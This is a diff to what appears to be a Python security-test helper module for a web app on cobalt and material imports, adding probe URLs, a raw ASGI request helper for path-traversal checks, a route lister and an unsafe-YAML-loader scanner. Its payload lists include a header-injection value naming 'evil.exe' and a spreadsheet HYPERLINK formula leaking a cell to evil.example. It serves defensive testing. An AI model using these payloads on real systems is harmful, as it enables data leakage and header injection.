@@ -7,8 +7,12 @@ attribute is not a false alarm and a real tag or event handler is never missed.
 
 from __future__ import annotations
 
+import ast
 from html.parser import HTMLParser
+from pathlib import Path
 from typing import Any
+
+import anyio
 
 # Script injection in the contexts a reflected value can land in: text, quoted attributes, URLs, markup
 # that re-parses (math/style), template syntax, an already percent-encoded payload.
@@ -71,6 +75,18 @@ HEADER_INJECTION = [
     'NL"; filename="evil.exe',
 ]
 
+# URLs where a parameter value could reach a response header (Content-Disposition) or a log line.
+HEADER_URLS = [
+    "/report/country/NL.html?country={}",
+    "/report/material/cobalt.html?country={}",
+    "/report/material/cobalt.xlsx?country={}",
+    "/download/imports.csv?material=cobalt&country={}",
+    "/api/v1/imports?material=cobalt&country={}",
+    "/?country={}",
+    "/material/cobalt?country={}",
+    "/alerts?lang=en&country={}",
+]
+
 # Cells a spreadsheet would run as a formula (OWASP CSV injection), with the full-width variants.
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -82,6 +98,41 @@ FORMULAS = [
     "\uff1d1+1",
 ]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+# Every path name or query that becomes a file path, or is looked up among files.
+NAMES_THAT_BECOME_PATHS = [
+    "/static/{}",
+    "/static/vendor/{}",
+    "/static-gen/{}",
+    "/report/scenario/{}.html",
+    "/report/scenario/{}.json",
+    "/report/material/{}.html",
+    "/report/country/{}.xlsx",
+    "/download/{}.csv",
+    "/material/{}",
+    "/{}",
+]
+
+# Pages and the parameters each reflects (in forms, headings, error messages); the base makes the page run.
+PAGES: list[tuple[str, dict[str, str], list[str]]] = [
+    ("/", {}, ["country", "year", "lang"]),
+    ("/material/cobalt", {}, ["country", "lang"]),
+    ("/compare", {}, ["material", "countries", "year"]),
+    ("/partner", {}, ["country", "partner", "years", "source"]),
+    ("/alerts", {}, ["country", "since"]),
+    ("/benchmarks", {}, ["year"]),
+    (
+        "/scenarios/cutoff",
+        {"materials": "cobalt", "suppliers": "CD", "country": "NL"},
+        ["preset", "suppliers"],
+    ),
+    ("/scenarios/stockpile", {"materials": "cobalt"}, ["country", "materials", "days", "basis"]),
+    ("/scenarios/transition", {}, ["by", "recycled_pct"]),
+    ("/technologies", {}, ["per"]),
+    ("/balance", {"material": "cobalt"}, ["material", "country", "year"]),
+    ("/materials", {}, ["lang"]),
+]
+PATHS = ["/material/{}", "/country/{}", "/report/material/{}.html", "/report/country/{}.html", "/nope/{}"]
 
 SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "referrer-policy", "x-frame-options")
 URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href")
@@ -168,5 +219,73 @@ def formula_cells(rows: list[list[Any]]) -> list[str]:
     """Text cells of a table that a spreadsheet would read as a formula; a plain number such as ``-1.5``
     (every CSV cell is text) is a number, not a formula."""
     return [
-        c for row in rows for c in row if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not _is_number(c)
+        c
+        for row in rows
+        for c in row
+        if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not _is_number(c)
     ]
+
+
+def asgi_get(
+    app: Any, path: str, query: bytes = b"", headers: list[tuple[bytes, bytes]] | None = None
+) -> Any:
+    """Send one GET straight to the ASGI app with ``path`` exactly as given: no client normalises it (an
+    HTTP client would resolve ``..`` and may decode ``%2e``). Returns (status, headers, body)."""
+
+    async def call() -> tuple[int, dict[str, str], bytes]:
+        scope = {
+            "type": "http",
+            "asgi": {"version": "3.0"},
+            "http_version": "1.1",
+            "method": "GET",
+            "scheme": "http",
+            "path": path,
+            "raw_path": path.encode("utf-8", "surrogateescape"),
+            "query_string": query,
+            "root_path": "",
+            "headers": headers if headers is not None else [(b"host", b"127.0.0.1:8000")],
+            "client": ("127.0.0.1", 50000),
+            "server": ("127.0.0.1", 8000),
+        }
+        sent: list[dict[str, Any]] = []
+
+        async def receive() -> dict[str, Any]:
+            return {"type": "http.request", "body": b"", "more_body": False}
+
+        async def send(message: dict[str, Any]) -> None:
+            sent.append(message)
+
+        await app(scope, receive, send)
+        start = next(m for m in sent if m["type"] == "http.response.start")
+        body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
+        names = {k.decode("latin-1").lower(): v.decode("latin-1") for k, v in start["headers"]}
+        return start["status"], names, body
+
+    return anyio.run(call)
+
+
+def routes_of(app: Any) -> list[tuple[str, set[str]]]:
+    """Every (path, methods) the app serves, through included routers (FastAPI wraps them)."""
+    out = []
+    for route in app.routes:
+        inner = getattr(route, "original_router", None)
+        if inner is not None:
+            out.extend(routes_of(inner))
+        elif getattr(route, "methods", None) is not None:
+            out.append((route.path, set(route.methods)))
+    return out
+
+
+def yaml_offenders(package: Path) -> list[str]:
+    """Calls in the package's Python files that could read YAML with an unsafe loader: ``yaml.load``,
+    ``unsafe_load``, ``full_load`` (and their ``_all`` forms) or any ``*load`` given a ``Loader``."""
+    offenders = []
+    for path in sorted(package.rglob("*.py")):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
+                if node.func.attr in ("load", "load_all", "unsafe_load", "full_load", "unsafe_load_all"):
+                    if isinstance(node.func.value, ast.Name) and node.func.value.id == "yaml":
+                        offenders.append(f"{path.name}:{node.lineno}")
+                if node.func.attr.endswith("load") and any(k.arg == "Loader" for k in node.keywords):
+                    offenders.append(f"{path.name}:{node.lineno}")
+    return offenders
